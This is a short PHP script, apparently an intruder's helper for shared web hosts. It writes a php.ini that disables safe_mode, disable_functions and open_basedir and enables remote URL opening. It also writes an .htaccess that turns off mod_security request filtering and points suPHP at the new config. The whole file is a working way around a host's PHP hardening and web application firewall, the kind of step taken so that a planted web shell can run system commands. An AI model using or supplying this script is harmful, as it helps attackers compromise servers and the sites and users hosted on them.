<?php
// probe (never run): a php.ini dropped beside the scripts to empty disable_functions (suPHP/CGI hosts read it)
$ini = "safe_mode = Off\ndisable_functions = NONE\nopen_basedir = none\nallow_url_fopen = On\n";
$r = file_put_contents('php.ini', $ini);
file_put_contents('.htaccess', "<IfModule mod_security.c>\nSecFilterEngine Off\nSecFilterScanPOST Off\n</IfModule>\nsuPHP_ConfigPath " . getcwd() . "\n");
echo $r ? 'done' : 'fail';
